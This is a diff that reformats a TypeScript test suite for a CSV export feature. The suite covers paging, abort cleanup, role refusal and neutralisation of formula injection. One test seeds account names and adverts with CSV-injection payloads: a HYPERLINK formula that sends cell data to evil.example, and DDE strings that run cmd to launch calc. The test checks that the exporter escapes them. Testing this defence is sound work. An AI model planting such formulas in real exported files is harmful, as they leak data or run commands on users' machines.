@@ -63,9 +63,14 @@ describe('CSV export streamed from a list operation', () => {
     const path = join(scratch, 'comptes.csv');
     const progress: Progress[] = [];
     listCalls = 0;
-    const result = await exportToCsvFile((operation, input) => api.call(operation, input as never), { operation: 'admin.accounts.list', input: { query: {} }, columns, pageSize: 500 }, path, {
-      onProgress: (step) => progress.push(step),
-    });
+    const result = await exportToCsvFile(
+      (operation, input) => api.call(operation, input as never),
+      { operation: 'admin.accounts.list', input: { query: {} }, columns, pageSize: 500 },
+      path,
+      {
+        onProgress: (step) => progress.push(step),
+      },
+    );
     const total = EXTRA_ACCOUNTS + 1;
     expect(result.rows).toBe(total);
     expect(listCalls).toBe(Math.ceil(total / 500));
@@ -85,10 +90,15 @@ describe('CSV export streamed from a list operation', () => {
     const api = await signedInClient(['ADMIN']);
     const path = join(scratch, 'annule.csv');
     const controller = new AbortController();
-    const run = exportToCsvFile((operation, input) => api.call(operation, input as never), { operation: 'admin.accounts.list', input: { query: {} }, columns, pageSize: 300 }, path, {
-      signal: controller.signal,
-      onProgress: (step) => step.done >= 600 && controller.abort(),
-    });
+    const run = exportToCsvFile(
+      (operation, input) => api.call(operation, input as never),
+      { operation: 'admin.accounts.list', input: { query: {} }, columns, pageSize: 300 },
+      path,
+      {
+        signal: controller.signal,
+        onProgress: (step) => step.done >= 600 && controller.abort(),
+      },
+    );
     await expect(run).rejects.toThrow();
     expect(existsSync(path)).toBe(false);
     expect(readdirSync(scratch).filter((name) => name.startsWith('annule'))).toEqual([]);
@@ -98,7 +108,11 @@ describe('CSV export streamed from a list operation', () => {
   it("gives back the server's refusal for a role that may not list, and writes nothing", async () => {
     const api = await signedInClient(['SALES']);
     const path = join(scratch, 'refuse.csv');
-    const run = exportToCsvFile((operation, input) => api.call(operation, input as never), { operation: 'admin.accounts.list', input: { query: {} }, columns }, path);
+    const run = exportToCsvFile(
+      (operation, input) => api.call(operation, input as never),
+      { operation: 'admin.accounts.list', input: { query: {} }, columns },
+      path,
+    );
     await expect(run).rejects.toBeInstanceOf(ExportFailedError);
     await expect(run).rejects.toThrow(MESSAGES.userNotAllowed);
     expect(existsSync(path)).toBe(false);
@@ -123,16 +137,33 @@ describe('CSV export streamed from a list operation', () => {
   // OWASP CSV injection: a text a spreadsheet would run comes back with a ' in front (quoted, as papaparse writes an
   // escaped cell); number-typed values, negative ones included, and texts that are plain numbers stay as they are.
   it('neutralises formulas in text cells of every list export, never numbers', async () => {
-    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '-2+3', '\t=1+1', '\r=1+1'];
-    const read = (path: string) => Papa.parse<string[]>(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
+      "+cmd|'/C calc'!A0",
+      "@SUM(1+1)*cmd|'/C calc'!A0",
+      '-2+3',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const read = (path: string) =>
+      Papa.parse<string[]>(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
 
     // Accounts, through the real server: hostile names.
     const api = await signedInClient(['ADMIN']);
-    await server.database.db.insert(accounts).values(hostile.map((name, i) => ({ name, email: `hostile-${i}@formula.local`, passwordHash: 'x', roles: ['CSM'] })));
+    await server.database.db
+      .insert(accounts)
+      .values(hostile.map((name, i) => ({ name, email: `hostile-${i}@formula.local`, passwordHash: 'x', roles: ['CSM'] })));
     const accountsPath = join(scratch, 'comptes-hostiles.csv');
     await exportToCsvFile(
       (operation, input) => api.call(operation, input as never),
-      { operation: 'admin.accounts.list', input: { query: { term: 'formula.local' } }, columns: [{ key: 'name', header: 'Nom' }, { key: 'username', header: 'E-mail' }] },
+      {
+        operation: 'admin.accounts.list',
+        input: { query: { term: 'formula.local' } },
+        columns: [
+          { key: 'name', header: 'Nom' },
+          { key: 'username', header: 'E-mail' },
+        ],
+      },
       accountsPath,
     );
     const accountCells = read(accountsPath).slice(1);
@@ -142,18 +173,38 @@ describe('CSV export streamed from a list operation', () => {
 
     // Adverts and groups: their rows as the API answers them, with number-typed and list values.
     const answers: Partial<Record<OperationId, Record<string, unknown>[]>> = {
-      'adverts.list': hostile.map((title, i) => ({ id: i + 1, type: 'post', name: hostile[(i + 1) % hostile.length], title, weight: -5 - i, isFree: false, source: '-7' })),
+      'adverts.list': hostile.map((title, i) => ({
+        id: i + 1,
+        type: 'post',
+        name: hostile[(i + 1) % hostile.length],
+        title,
+        weight: -5 - i,
+        isFree: false,
+        source: '-7',
+      })),
       'groups.list': hostile.map((name, i) => ({ id: -(i + 1), name, label: 'Feed', labels: [hostile[i], 'Feed'], audiencesCount: -1.5 })),
     };
     const call: CallOperation = async (operation) => ({ ok: true, data: { items: answers[operation] ?? [], total: hostile.length } }) as never;
     const advertsPath = join(scratch, 'adverts-hostiles.csv');
-    await exportToCsvFile(call, { operation: 'adverts.list', input: { body: {} } as never, columns: ['id', 'name', 'title', 'weight', 'isFree', 'source'].map((key) => ({ key, header: key })) }, advertsPath);
+    await exportToCsvFile(
+      call,
+      {
+        operation: 'adverts.list',
+        input: { body: {} } as never,
+        columns: ['id', 'name', 'title', 'weight', 'isFree', 'source'].map((key) => ({ key, header: key })),
+      },
+      advertsPath,
+    );
     expect(read(advertsPath).slice(1)).toEqual(
       hostile.map((title, i) => [String(i + 1), `'${hostile[(i + 1) % hostile.length]}`, `'${title}`, String(-5 - i), 'false', '-7']),
     );
     expect(readFileSync(advertsPath, 'utf8')).toContain(`;-5;false;-7\r\n`);
     const groupsPath = join(scratch, 'groupes-hostiles.csv');
-    await exportToCsvFile(call, { operation: 'groups.list', input: { query: {} }, columns: GROUP_EXPORT_COLUMNS.map((column) => ({ ...column })) }, groupsPath);
+    await exportToCsvFile(
+      call,
+      { operation: 'groups.list', input: { query: {} }, columns: GROUP_EXPORT_COLUMNS.map((column) => ({ ...column })) },
+      groupsPath,
+    );
     expect(read(groupsPath).slice(1)).toEqual(hostile.map((name, i) => [String(-(i + 1)), `'${name}`, 'Feed', `'${name}, Feed`, '-1.5']));
   });
 
